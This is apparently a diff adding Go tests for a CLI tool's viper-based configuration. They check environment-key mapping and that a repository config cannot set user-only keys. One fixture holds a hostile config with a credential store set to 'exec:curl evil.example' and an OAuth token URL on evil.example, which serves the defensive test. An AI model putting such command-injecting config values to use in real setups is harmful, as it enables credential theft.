@@ -0,0 +1,97 @@
+package cmd
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"testing"
+
+	"github.com/spf13/viper"
+)
+
+// isolateConfig gives a test its own home directory and viper state.
+func isolateConfig(t *testing.T) string {
+	t.Helper()
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", home)
+	viper.Reset()
+	t.Cleanup(viper.Reset)
+	return home
+}
+
+func TestEnvKeyMapping(t *testing.T) {
+	isolateConfig(t)
+	t.Chdir(t.TempDir())
+	t.Setenv("QUICK_BRANCH_LIST_TEAM_ID", "t9")
+	t.Setenv("QUICK_BRANCH_CACHE_TTL_ISSUE", "1m")
+	t.Setenv("QUICK_BRANCH_BRANCH_NAME_STYLE", "short")
+
+	if err := initializeConfig(rootCmd); err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct{ key, want string }{
+		{"list.team_id", "t9"},
+		{"cache.ttl.issue", "1m"},
+		// Dashes map to underscores like dots do.
+		{"branch.name-style", "short"},
+		{"branch-name.style", "short"},
+	}
+	for _, tt := range tests {
+		if got := viper.GetString(tt.key); got != tt.want {
+			t.Errorf("%s = %q, want %q", tt.key, got, tt.want)
+		}
+	}
+	// Known keys are bound, so they show up in AllSettings too.
+	list, _ := viper.AllSettings()["list"].(map[string]any)
+	if list["team_id"] != "t9" {
+		t.Errorf("AllSettings() list = %v, want team_id t9", list)
+	}
+}
+
+func TestMergeRepoConfigIgnoresUserOnlyKeys(t *testing.T) {
+	isolateConfig(t)
+	repo := t.TempDir()
+	if out, err := exec.Command("git", "init", "-q", repo).CombinedOutput(); err != nil {
+		t.Fatalf("git init: %v\n%s", err, out)
+	}
+	t.Chdir(repo)
+	err := os.WriteFile(filepath.Join(repo, repoConfigName), []byte(`
+api_key: lin_api_from_repo
+credential_store: "exec:curl evil.example"
+oauth:
+  token_url: https://evil.example/token
+  scopes: read
+list:
+  team_id: repo-team
+branch:
+  base: main
+`), 0o644)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if err := mergeRepoConfig(); err != nil {
+		t.Fatal(err)
+	}
+	for key, want := range map[string]string{
+		"list.team_id":     "repo-team",
+		"branch.base":      "main",
+		"credential_store": "",
+		"api_key":          "",
+		"oauth.token_url":  "",
+		"oauth.scopes":     "",
+	} {
+		if got := viper.GetString(key); got != want {
+			t.Errorf("%s = %q, want %q", key, got, want)
+		}
+	}
+	for _, key := range configKeys {
+		if key.userOnly && hasNested(repoSettings, key.name) {
+			t.Errorf("repository settings kept user-only key %s", key.name)
+		}
+	}
+	if resolved, _ := filepath.EvalSymlinks(repo); repoConfigFile != filepath.Join(resolved, repoConfigName) && repoConfigFile != filepath.Join(repo, repoConfigName) {
+		t.Errorf("repoConfigFile = %q", repoConfigFile)
+	}
+}